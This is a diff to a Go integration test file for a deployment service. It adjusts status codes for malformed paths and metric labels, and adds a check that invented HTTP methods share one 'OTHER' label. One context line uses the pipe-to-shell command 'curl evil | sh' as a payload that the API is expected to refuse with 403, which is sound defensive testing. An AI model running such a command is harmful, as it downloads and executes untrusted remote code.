@@ -2,6 +2,7 @@ package integration
 
 import (
 	"context"
+	"fmt"
 	"strings"
 	"testing"
 
@@ -143,7 +144,9 @@ func TestIdentity(t *testing.T) {
 		"config": map[string]any{"command": "curl evil | sh", "shell": true}})
 	require.Equal(t, 403, r.Status, r.Raw)
 	require.Equal(t, 200, s.call("GET", "/api/v1/environments/"+env, secret, nil).Status, "reading is open to every token")
-	require.Equal(t, 400, s.call("GET", "/api/v1/applications/%ff", secret, nil).Status, "a path that is not UTF-8 is a bad request")
+	r = s.call("GET", "/api/v1/applications/%ff", secret, nil)
+	require.Equal(t, 422, r.Status, "a path that is not UTF-8 is refused, naming the parameter")
+	require.Contains(t, r.Raw, `"field":"id"`)
 
 	// Writes carry the principal into the audit log.
 	created := s.call("POST", "/api/v1/applications", secret, map[string]any{"name": "by-carol", "owner_team": "x"})
@@ -169,8 +172,19 @@ func TestHealth(t *testing.T) {
 	s.must(201, "POST", "/api/v1/applications", map[string]any{"name": "metered", "owner_team": "x"})
 	m := s.call("GET", "/metrics", "", nil)
 	require.Equal(t, 200, m.Status)
-	require.Contains(t, m.Raw, `transit_http_requests_total{method="POST",route="/api/v1/applications",status="201"} 1`)
+	require.Contains(t, m.Raw, `transit_http_requests_total{code="201",method="POST",route="/api/v1/applications"} 1`)
 	require.Contains(t, m.Raw, `transit_deployments{status="completed"} 0`)
+
+	// Made-up methods, without a token, share one label: a client cannot
+	// grow the series.
+	before := strings.Count(m.Raw, "\ntransit_http_requests_total{")
+	for i := 0; i < 100; i++ {
+		s.call(fmt.Sprintf("BREW%d", i), "/api/v1/applications", "", nil)
+	}
+	m = s.call("GET", "/metrics", "", nil)
+	after := strings.Count(m.Raw, "\ntransit_http_requests_total{")
+	require.LessOrEqual(t, after-before, 3, "100 made-up methods added %d series", after-before)
+	require.Contains(t, m.Raw, `method="OTHER"`)
 }
 
 // A row changed behind the application's back (the owner disabling the
